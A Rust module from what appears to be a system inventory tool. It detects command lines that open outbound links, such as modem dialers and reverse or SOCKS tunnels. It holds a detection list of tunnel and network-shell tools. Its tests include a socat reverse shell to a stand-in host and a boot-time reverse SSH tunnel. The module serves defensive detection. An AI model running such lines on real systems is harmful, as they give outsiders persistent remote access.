//! Command lines that open a way out: dialers of cellular modems, reverse tunnels, tunnel clients.
//! Used for scripts, units, hooks and tables of tasks. Options: the programs' own manuals.
mod filters;
mod servers;

use super::chat::{self, Dial};
use crate::format::lines::words;
use crate::inventory::Connection;
pub(super) use filters::{forwarding, rules};
pub(super) use servers::listens;

/// Programs that dial a cellular modem by themselves.
const DIALERS: &[&str] = &[
    "quectel-CM",
    "quectel-cm",
    "simcom-cm",
    "simcom_cm",
    "meig-cm",
    "fibo-cm",
    "fibo_dial",
    "fibocom-dial",
    "fibocom-dialer",
    "qmi-network",
    "mbim-network",
    "wvdial",
    "sakis3g",
    "umtskeeper",
    "pon.wvdial",
];

/// The connection that one command line opens, if it opens one. Name, manager and evidence are the caller's.
pub(super) fn recognise(line: &str) -> Option<Connection> {
    within(line, 4)
}

/// Programs that are looked for; to compare is cheaper than to gather arguments.
const KNOWN: &[&str] = &[
    "qmicli",
    "mmcli",
    "mbimcli",
    "uqmi",
    "umbim",
    "nmcli",
    "ssh",
    "autossh",
    "dbclient",
    "plink",
    "frpc",
    "npc",
    "chisel",
    "bore",
    "ngrok",
    "cpolar",
    "cloudflared",
    "gost",
    "sshuttle",
    "edge",
    "easytier-core",
    "gs-netcat",
    "openvpn",
    "pppd",
    "socat",
];

fn within(line: &str, depth: u32) -> Option<Connection> {
    let all = words(line);
    // Look at every word as the program: `nohup`, `sudo -u x`, `sh -c`, `&&` may come before.
    for (at, word) in all.iter().enumerate().take(64) {
        // `ExecStart=/usr/bin/ssh`, `$(qmicli`, `-/usr/bin/x`
        let program = word.rsplit(['/', '=']).next().unwrap_or(word);
        let program = program.trim_start_matches(['-', '@', '!', ':', '+', '(', '`', '$']);
        if !KNOWN.contains(&program) && !DIALERS.contains(&program) {
            continue;
        }
        let args = arguments(&all, at);
        if let Some(found) = modem(program, &args).or_else(|| tunnel(program, &args)) {
            let command = format!("command={}", line.trim());
            return Some(Connection { details: [found.details, vec![command]].concat(), ..found });
        }
    }
    let depth = depth.checked_sub(1)?;
    for inner in all.iter().filter(|w| w.contains(' ') && w.len() < line.len()).take(4) {
        if let Some(found) = within(inner, depth) {
            return Some(found);
        }
    }
    at_commands(line)
}

/// The words after a program, up to the next command; no more of them than a command line has.
fn arguments(all: &[String], at: usize) -> Vec<&str> {
    all.iter()
        .skip(at.saturating_add(1))
        .map(String::as_str)
        .take_while(|w| !matches!(*w, "&&" | "||" | ";" | "|" | "&"))
        .take(1000)
        .collect()
}

fn cellular(apn: &str, device: &str) -> Connection {
    Connection {
        kind: "gsm".into(),
        apn: apn.to_owned(),
        device: device.to_owned(),
        default_route: true,
        ..Connection::default()
    }
}

/// The word after an option, or behind its `=`.
fn option<'a>(args: &[&'a str], names: &[&str]) -> Option<&'a str> {
    args.iter().enumerate().find_map(|(at, a)| {
        if names.contains(a) {
            return args.get(at.saturating_add(1)).copied();
        }
        names.iter().find_map(|n| a.strip_prefix(n)?.strip_prefix('='))
    })
}

fn modem(program: &str, args: &[&str]) -> Option<Connection> {
    let starts = |prefix: &str| args.iter().find(|a| a.starts_with(prefix));
    let in_list = |list: &str, key: &str| {
        let quotes = ['"', '\''];
        list.split([',', '|'])
            .find_map(|p| p.trim_matches(quotes).strip_prefix(key)?.strip_prefix('='))
            .map(|v| v.trim_matches(quotes).to_owned())
            .unwrap_or_default()
    };
    let secret =
        |c: Connection, has: bool, name: &str| if has { Connection { secrets: vec![name.to_owned()], ..c } } else { c };
    match program {
        "qmicli" => {
            let net = starts("--wds-start-network")?;
            let value = net
                .split_once('=')
                .map_or_else(|| option(args, &["--wds-start-network"]).unwrap_or_default(), |(_, v)| v);
            Some(cellular(&in_list(value, "apn"), option(args, &["-d", "--device"]).unwrap_or_default()))
        }
        "mmcli" => {
            let net = starts("--simple-connect")?;
            let value =
                net.split_once('=').map_or_else(|| option(args, &["--simple-connect"]).unwrap_or_default(), |(_, v)| v);
            Some(Connection {
                number: in_list(value, "number"),
                ..secret(
                    cellular(&in_list(value, "apn"), option(args, &["-m", "--modem"]).unwrap_or_default()),
                    value.contains("password=") || value.contains("pin="),
                    "password",
                )
            })
        }
        "mbimcli" => {
            let net = starts("--connect")?;
            let value =
                net.split_once('=').map_or_else(|| option(args, &["--connect"]).unwrap_or_default(), |(_, v)| v);
            Some(cellular(&in_list(value, "apn"), option(args, &["-d", "--device"]).unwrap_or_default()))
        }
        "uqmi" => args.contains(&"--start-network").then(|| {
            cellular(
                option(args, &["--apn"]).or_else(|| option(args, &["--start-network"])).unwrap_or_default(),
                option(args, &["-d", "--device"]).unwrap_or_default(),
            )
        }),
        "umbim" => {
            let at = args.iter().position(|a| *a == "connect")?;
            Some(cellular(
                args.get(at.saturating_add(1)).copied().unwrap_or_default().rsplit(':').next().unwrap_or_default(),
                option(args, &["-d"]).unwrap_or_default(),
            ))
        }
        "nmcli" => {
            let gsm = args.contains(&"gsm") && args.contains(&"add");
            gsm.then(|| {
                cellular(
                    option(args, &["apn", "gsm.apn"]).unwrap_or_default(),
                    option(args, &["ifname"]).unwrap_or_default(),
                )
            })
        }
        name if DIALERS.contains(&name) => {
            // Only where it is run: a word in a list of processes to stop is no call.
            if args.iter().any(|a| matches!(*a, "stop" | "status" | "--help" | "-h")) {
                return None;
            }
            // quectel-CM -s APN [USER PASSWORD AUTH] -p PIN -i INTERFACE
            let apn = option(args, &["-s"]).unwrap_or_default();
            let device = option(args, &["-i"])
                .or_else(|| args.iter().copied().find(|a| a.starts_with("/dev/")))
                .unwrap_or_default();
            Some(secret(cellular(apn, device), option(args, &["-p"]).is_some(), "pin"))
        }
        _ => None,
    }
}

#[allow(clippy::unnecessary_wraps)] // every arm below ends in it
fn row(endpoints: Vec<String>, detail: String) -> Option<Connection> {
    Some(Connection { kind: "tunnel".into(), endpoints, details: vec![detail], ..Connection::default() })
}

fn tunnel(program: &str, args: &[&str]) -> Option<Connection> {
    match program {
        "ssh" | "autossh" | "dbclient" | "plink" => ssh(program, args),
        "frpc" => {
            let server = option(args, &["-s", "--server_addr", "--server-addr"])?;
            row(vec![server.to_owned()], "tool=frp".into())
        }
        "npc" => {
            let server = option(args, &["-server", "--server"])?;
            row(vec![server.to_owned()], "tool=nps".into())
        }
        "chisel" => {
            let client = args.iter().position(|a| *a == "client")?;
            let rest = args.get(client.saturating_add(1)..)?;
            let server = rest.iter().find(|a| !a.starts_with('-') && (a.contains("://") || a.contains('.')))?;
            let reverse: Vec<&str> = rest.iter().copied().filter(|a| a.starts_with("R:")).collect();
            row(vec![(*server).to_owned()], format!("tool=chisel {}", reverse.join(" ")))
        }
        "bore" if args.first() == Some(&"local") => {
            let to = option(args, &["--to", "-t"])?;
            row(vec![to.to_owned()], "tool=bore".into())
        }
        "ngrok" | "cpolar" if args.iter().any(|a| matches!(*a, "tcp" | "http" | "start" | "tls")) => {
            row(Vec::new(), format!("tool={program} {}", args.first().copied().unwrap_or_default()))
        }
        "cloudflared"
            if args.contains(&"tunnel")
                && args.iter().any(|a| matches!(*a, "run" | "--url") || a.starts_with("--url=")) =>
        {
            row(Vec::new(), "tool=cloudflared".into())
        }
        "gost" => {
            let far: Vec<String> = args
                .iter()
                .enumerate()
                .filter_map(|(i, a)| {
                    if *a == "-F" {
                        args.get(i.saturating_add(1)).map(|v| (*v).to_owned())
                    } else {
                        a.strip_prefix("-F=").map(str::to_owned)
                    }
                })
                .collect();
            let near: Vec<&str> = args
                .iter()
                .enumerate()
                .filter_map(
                    |(i, a)| if *a == "-L" { args.get(i.saturating_add(1)).copied() } else { a.strip_prefix("-L=") },
                )
                .collect();
            if far.is_empty() && near.is_empty() { None } else { row(far, format!("tool=gost -L {}", near.join(" "))) }
        }
        "sshuttle" => row(vec![option(args, &["-r", "--remote"])?.to_owned()], "tool=sshuttle".into()),
        "edge" => {
            let node = option(args, &["-l"])?;
            option(args, &["-c"])?;
            row(vec![node.to_owned()], "tool=n2n".into())
        }
        "easytier-core" => {
            let peers: Vec<String> = args
                .iter()
                .enumerate()
                .filter(|(_, a)| matches!(**a, "-p" | "--peers"))
                .filter_map(|(i, _)| args.get(i.saturating_add(1)).map(|v| (*v).to_owned()))
                .collect();
            if peers.is_empty() { None } else { row(peers, "tool=easytier".into()) }
        }
        "gs-netcat" => row(Vec::new(), "tool=gsocket".into()),
        "openvpn" => Some(Connection {
            kind: "vpn".into(),
            ..row(vec![option(args, &["--remote"])?.to_owned()], "tool=openvpn".into())?
        }),
        "pppd" => {
            let pty = option(args, &["pty"]).unwrap_or_default();
            let tty = args
                .iter()
                .find(|a| a.starts_with("/dev/tty") || a.starts_with("ttyUSB") || a.starts_with("ttyACM"))?;
            let mut dial = Dial::default();
            for a in args {
                chat::learn(a, "", &mut dial);
            }
            (pty.is_empty()).then(|| Connection {
                kind: if dial.is_modem() || super::ppp::is_modem_tty(tty) {
                    "ppp-modem".into()
                } else {
                    "ppp-serial".into()
                },
                device: (*tty).to_owned(),
                apn: dial.apn,
                number: dial.number,
                ..Connection::default()
            })
        }
        "socat" => {
            // One end to a host elsewhere, the other to a program, a line or a listener.
            let far = args.iter().find(|a| {
                let a = a.to_ascii_uppercase();
                ["TCP:", "TCP4:", "OPENSSL:", "SSL:", "TCP-CONNECT:", "OPENSSL-CONNECT:", "SOCKS4A:", "PROXY:"]
                    .iter()
                    .any(|p| a.starts_with(p))
            })?;
            let near = args.iter().find(|a| *a != far && !a.starts_with('-'))?;
            let host =
                far.split(':').skip(1).take(2).map(|p| p.split(',').next().unwrap_or(p)).collect::<Vec<_>>().join(":");
            let upper = near.to_ascii_uppercase();
            let shell = ["EXEC:", "SYSTEM:", "SHELL:"].iter().any(|p| upper.starts_with(p));
            let line = near.starts_with("/dev/tty")
                || upper.starts_with("FILE:/DEV/TTY")
                || upper.starts_with("OPEN:/DEV/TTY");
            if super::tunnels::is_local(&host) && !shell {
                None
            } else {
                row(vec![host], format!("tool=socat near={near}{}", if shell || line { "" } else { " (relay)" }))
            }
        }
        _ => None,
    }
}

/// ssh that forwards: `-R`, `-D`, `-w`, or `-L` that stays up without a command.
fn ssh(program: &str, args: &[&str]) -> Option<Connection> {
    let mut forwards = Vec::new();
    let mut host = None;
    let mut port = None;
    let mut rest = args.iter().copied();
    while let Some(a) = rest.next() {
        if let Some(letters) = a.strip_prefix('-') {
            // Letters may stand together; the last of them may take a value.
            let takes = |c: char| "BbcDEeFIiJLlmOopQRSWwM".contains(c) && !(c == 'M' && program != "autossh");
            if let Some((at, c)) = letters.char_indices().find(|(_, c)| takes(*c)) {
                let inline = letters.get(at.saturating_add(1)..).unwrap_or_default();
                let value = if inline.is_empty() { rest.next().unwrap_or_default() } else { inline };
                match c {
                    'R' | 'D' | 'L' | 'w' => forwards.push(format!("-{c} {value}")),
                    'p' => port = Some(value),
                    'o' if ["remoteforward", "dynamicforward", "localforward", "tunnel="]
                        .iter()
                        .any(|k| value.to_ascii_lowercase().starts_with(k)) =>
                    {
                        forwards.push(format!("-o {value}"));
                    }
                    _ => {}
                }
            }
        } else if host.is_none() {
            host = Some(a);
        } else {
            break;
        }
    }
    let host = host.filter(|_| !forwards.is_empty())?;
    let (user, name) = host.rsplit_once('@').map_or(("", host), |(u, h)| (u, h));
    let endpoint = port.map_or_else(|| name.to_owned(), |p| format!("{name}:{p}"));
    Some(Connection {
        username: user.to_owned(),
        ..row(vec![endpoint], format!("tool={program} {}", forwards.join(" ")))?
    })
}

/// A script that speaks AT commands itself: an access point or a number to dial must be among them.
fn at_commands(line: &str) -> Option<Connection> {
    let mut dial = Dial::default();
    chat::learn(line, "", &mut dial);
    let call = dial.commands.iter().any(|c| {
        ["AT+CGACT", "AT^NDISDUP", "AT+QNETDEVCTL", "AT$QCRMCALL", "AT+GTRNDIS", "AT+ZGACT", "AT#ECM"]
            .contains(&c.as_str())
    });
    if dial.apn.is_empty() && dial.number.is_empty() && !(call && line.contains('=')) {
        return None;
    }
    Some(Connection {
        number: dial.number,
        secrets: dial.secrets,
        details: vec![format!("at={}", dial.commands.join(" ")), format!("command={}", line.trim())],
        ..cellular(&dial.apn, "")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_open_a_way_out() {
        for (line, shown) in [
            ("quectel-CM -s cmnet &", "gsm apn=cmnet"),
            (
                "nohup /usr/local/bin/quectel-CM -i wwan0 -s 3gnet user pass 2 -p 1234 > /dev/null",
                "gsm apn=3gnet dev=wwan0",
            ),
            (
                "ExecStart=/usr/bin/qmicli -p -d /dev/cdc-wdm0 --wds-start-network=\"apn='ctnet',ip-type=4\" --client-no-release-cid",
                "gsm apn=ctnet dev=/dev/cdc-wdm0",
            ),
            ("mmcli -m 0 --simple-connect=\"apn=internet,ip-type=ipv4\"", "gsm apn=internet dev=0"),
            ("echo -e 'AT+CGDCONT=1,\"IP\",\"cmiot\"\\r' > /dev/ttyUSB2", "gsm apn=cmiot"),
            ("echo 'AT^NDISDUP=1,1' > /dev/ttyUSB2", "gsm"),
            ("@reboot root autossh -M 0 -fN -R 6022:localhost:22 -p 443 u@h.example.com", "tunnel h.example.com:443"),
            ("ssh -fNR 2222:127.0.0.1:22 tunnel@203.0.113.4", "tunnel 203.0.113.4"),
            ("sh -c 'ssh -N -D 1080 host'", "tunnel host"),
            ("ExecStart=/opt/x/frpc tcp -s h:7000 -t tok", "tunnel h:7000"),
            ("npc -server=1.2.3.4:8024 -vkey=abc", "tunnel 1.2.3.4:8024"),
            ("chisel client --auth u:p https://c.example.com R:2222:localhost:22", "tunnel https://c.example.com"),
            ("gost -L=:8080 -F=relay+tls://u:p@h.example.com:443", "tunnel relay+tls://u:p@h.example.com:443"),
            ("socat OPENSSL:h.example.com:443 EXEC:/bin/sh,pty", "tunnel h.example.com:443"),
            ("socat TCP:h.example.com:9000 /dev/ttyS1,raw", "tunnel h.example.com:9000"),
            (
                "pppd /dev/ttyUSB0 115200 connect \"chat ATD*99#\" defaultroute",
                "ppp-modem number=*99# dev=/dev/ttyUSB0",
            ),
        ] {
            let c = recognise(line).unwrap_or_default();
            let mut got = c.kind.to_string();
            for (name, value) in
                [(" ", c.endpoints.join(",")), (" apn=", c.apn), (" number=", c.number), (" dev=", c.device)]
            {
                if !value.is_empty() {
                    got.push_str(name);
                    got.push_str(&value);
                }
            }
            assert_eq!(got, shown, "{line}");
            assert!(!format!("{:?}", c.details).contains("1234'"), "{line}");
        }
        for line in [
            "killall quectel-CM stop",
            "ssh user@host ls -R /",
            "ssh host",
            "edge --version",
            "# quectel",
            "socat TCP-LISTEN:80,fork TCP:localhost:8080",
            "qmicli -d /dev/cdc-wdm0 --dms-get-ids",
            "cat /etc/frp/frpc.ini",
            "echo AT+CSQ > /dev/ttyUSB2",
            "chisel cut --release ubuntu-22.04",
            "ExecStart=/usr/sbin/sshd -D -R x",
        ] {
            assert!(recognise(line).is_none(), "{line}");
        }
    }
}
